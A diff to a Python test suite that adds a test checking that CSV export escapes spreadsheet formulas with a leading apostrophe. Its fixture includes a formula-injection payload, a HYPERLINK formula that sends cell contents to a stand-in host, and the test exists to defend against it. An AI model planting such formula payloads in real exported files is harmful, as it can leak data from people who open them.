@@ -12,6 +12,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from backends import open_store
+from daemon.tools.export.marks import write_csv
 from schemas.batch import Layout
 from schemas.config import DatabaseConfig
 from schemas.marks import Mark
@@ -81,6 +82,15 @@ def test_marks_of_the_span_and_the_group_are_in_every_format(file: Path, postgre
             rows = list(csv.DictReader(text))
         assert [row.pop("time") for row in rows] == ["2025-11-13T01:13:20Z", "2025-11-13T03:13:20.000000001Z"]
         assert rows == [{k: "" if v is None else str(v) for k, v in each.items()} for each in as_json(*IN)]
+
+
+def test_a_mark_that_begins_as_a_formula_is_text_in_a_spreadsheet(tmp_path: Path) -> None:
+    risky = ('=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1", "-1")
+    write_csv(tmp_path / "x", tuple(Mark(id=uuid4(), time_ns=-1, text=text, author=text) for text in (*risky, "a=1")))
+    with (tmp_path / "x").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["text"] for row in rows] == [*(f"'{text}" for text in risky), "a=1"] == [row["author"] for row in rows]
+    assert {row["time_ns"] for row in rows} == {"-1"}
 
 
 def test_without_marks_there_is_no_file_of_them_and_none_is_overwritten_unasked(
